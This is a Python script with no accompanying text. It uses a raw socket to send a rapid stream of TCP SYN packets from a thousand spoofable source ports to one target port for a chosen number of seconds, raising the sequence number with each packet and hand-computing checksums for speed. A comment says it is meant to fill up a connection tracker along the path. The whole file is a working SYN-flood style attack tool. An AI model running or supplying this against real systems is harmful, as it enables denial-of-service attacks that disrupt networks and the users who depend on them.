# Sends SYNs with one sequence number after the other, as fast as it can, from a raw socket. Needs root.
# numbers.py SOURCE TARGET PORT SECONDS FIRST_NUMBER; prints how many it sent
import socket, struct, sys, time

source, target = sys.argv[1], sys.argv[2]
port, seconds, number = map(int, sys.argv[3:])
sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
sock.bind((source, 0))
sock.connect((target, 0))
pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack('!BBH', 0, 6, 24)


def add(*parts):
    data = b''.join(parts)
    return sum(struct.unpack(f'!{len(data) // 2}H', data))


tail = struct.pack('!IBBHHHI', 0, 0x60, 0x02, 1024, 0, 0, 0x020405B4)
# a connection tracker on the way has room for so many
heads = [struct.pack('!HH', sport, port) for sport in range(20000, 21000)]
known = [add(pseudo, head, tail) for head in heads]
sent, end = 0, time.monotonic() + seconds
while time.monotonic() < end:
    for head, rest in zip(heads, known):
        number = (number + 1) & 0xFFFFFFFF
        total = rest + (number >> 16) + (number & 0xFFFF)
        total = (total & 0xFFFF) + (total >> 16)
        total = (total & 0xFFFF) + (total >> 16)
        middle = struct.pack('!I', number) + tail[:8]
        try:
            sock.send(head + middle + struct.pack('!H', ~total & 0xFFFF) + tail[10:])
            sent += 1
        except OSError:
            pass  # its buffer is full
print(sent)
